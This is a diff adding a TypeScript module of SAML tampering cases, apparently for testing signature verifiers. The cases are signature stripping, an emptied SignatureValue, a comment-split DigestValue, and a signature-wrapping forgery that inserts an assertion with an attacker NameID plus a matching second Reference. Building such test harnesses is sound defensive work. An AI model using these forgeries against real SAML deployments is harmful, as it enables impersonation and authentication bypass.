@@ -1,0 +1,120 @@
+import { createHash } from 'node:crypto';
+import { ExclusiveCanonicalization } from 'xml-crypto';
+import { ALGORITHMS, NS } from '../namespaces.ts';
+import { childElements, descendants, firstChild } from '../safe-xml.ts';
+import {
+  forge,
+  parseGenuine,
+  remove,
+  replaceText,
+  requireSignedAssertion,
+  serialize,
+  unsignedCopy,
+} from './dom.ts';
+import { type TamperDef, TamperNotApplicable } from './types.ts';
+
+const XMLDSIG = 'W3C XML Signature Syntax and Processing 1.1';
+
+/** Every ds:Signature removed; content unchanged. */
+export const stripSignature: TamperDef = {
+  name: 'strip-signature',
+  title: 'Every signature removed',
+  source:
+    'Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012 (signature exclusion); SAML profiles 4.1.3.5 (assertions sent by HTTP-POST MUST be signed)',
+  needs: 'any',
+  apply(xml) {
+    const g = parseGenuine(xml, 'strip-signature');
+    const signatures = descendants(g.response, NS.ds, 'Signature');
+    if (signatures.length === 0)
+      throw new TamperNotApplicable('strip-signature', 'the genuine Response carries no signature');
+    for (const sig of signatures) remove(sig);
+    return serialize(g.doc);
+  },
+};
+
+/** Every ds:SignatureValue emptied; SignedInfo, KeyInfo and content unchanged. */
+export const emptySignatureValue: TamperDef = {
+  name: 'empty-signature-value',
+  title: 'Signature present but its SignatureValue empty',
+  source: `${XMLDSIG}, 3.2 (core validation: the SignatureValue must verify over SignedInfo)`,
+  needs: 'any',
+  apply(xml) {
+    const g = parseGenuine(xml, 'empty-signature-value');
+    const values = descendants(g.response, NS.ds, 'SignatureValue');
+    if (values.length === 0)
+      throw new TamperNotApplicable('empty-signature-value', 'the genuine Response carries no signature');
+    for (const v of values) {
+      while (v.firstChild) v.removeChild(v.firstChild);
+    }
+    return serialize(g.doc);
+  },
+};
+
+/**
+ * An empty comment splits every DigestValue in two text nodes (`abc<!---->def`). Nothing signed
+ * changes: exclusive c14n without comments drops the comment from SignedInfo, so the SignatureValue
+ * still verifies, and the DigestValue's value (its string value, all text nodes joined) is the
+ * genuine one. A correct verifier MUST accept the message exactly as it accepts the genuine one; a
+ * verifier that reads only the first text node compares the digest with half a value and rejects a
+ * genuine message, and is likely to read a NameID the same way (see nameid-comment).
+ */
+export const digestComment: TamperDef = {
+  name: 'digest-comment',
+  title: 'Comment inside DigestValue: value unchanged, must still verify',
+  source:
+    'W3C Exclusive XML Canonicalization 1.0 (comments are omitted) and XPath 1.0 string-value; the first-text-node reading behind CVE-2017-11427',
+  needs: 'any',
+  apply(xml) {
+    const g = parseGenuine(xml, 'digest-comment');
+    const digests = descendants(g.response, NS.ds, 'DigestValue');
+    if (digests.length === 0)
+      throw new TamperNotApplicable('digest-comment', 'the genuine Response carries no signature');
+    for (const d of digests) {
+      const value = d.textContent ?? '';
+      const half = Math.floor(value.length / 2);
+      while (d.firstChild) d.removeChild(d.firstChild);
+      d.appendChild(g.doc.createTextNode(value.slice(0, half)));
+      d.appendChild(g.doc.createComment(''));
+      d.appendChild(g.doc.createTextNode(value.slice(half)));
+    }
+    return serialize(g.doc);
+  },
+};
+
+const DIGEST_HASH: Record<string, string> = {
+  [ALGORITHMS.sha1]: 'sha1',
+  [ALGORITHMS.sha256]: 'sha256',
+  'http://www.w3.org/2001/04/xmlenc#sha512': 'sha512',
+};
+
+/**
+ * R[…, A'(unsigned), A[S']] where S' is the genuine signature with a second Reference (`#A'`, correct
+ * digest) appended to its SignedInfo. The SignatureValue no longer matches SignedInfo, and SAML
+ * allows exactly one Reference, to the signature's parent: a strict verifier rejects it; one that
+ * only checks that the element it reads is referenced with a matching digest accepts A'.
+ */
+export const twoReferences: TamperDef = {
+  name: 'two-references',
+  title: 'Second Reference in SignedInfo points at a forged assertion',
+  source: `SAML core 5.4.2 (a single Reference, to the signed element's ID); ${XMLDSIG}, the Reference element`,
+  needs: 'assertion-signature',
+  apply(xml, ctx) {
+    const g = parseGenuine(xml, 'two-references');
+    const { assertion, signature } = requireSignedAssertion(g, 'two-references');
+    const evil = forge(unsignedCopy(assertion), ctx.attackerNameId);
+    g.response.insertBefore(evil, assertion);
+    const signedInfo = firstChild(signature, NS.ds, 'SignedInfo');
+    const reference = signedInfo && childElements(signedInfo, NS.ds, 'Reference')[0];
+    if (!signedInfo || !reference)
+      throw new TamperNotApplicable('two-references', 'the assertion signature has no Reference');
+    const second = reference.cloneNode(true) as typeof reference;
+    second.setAttribute('URI', `#${evil.getAttribute('ID')}`);
+    const method = firstChild(second, NS.ds, 'DigestMethod')?.getAttribute('Algorithm') ?? '';
+    const hash = DIGEST_HASH[method] ?? 'sha256';
+    const canonical = new ExclusiveCanonicalization().process(evil as never, {}).toString();
+    const digestValue = firstChild(second, NS.ds, 'DigestValue');
+    if (digestValue) replaceText(digestValue, createHash(hash).update(canonical, 'utf8').digest('base64'));
+    signedInfo.appendChild(second);
+    return serialize(g.doc);
+  },
+};
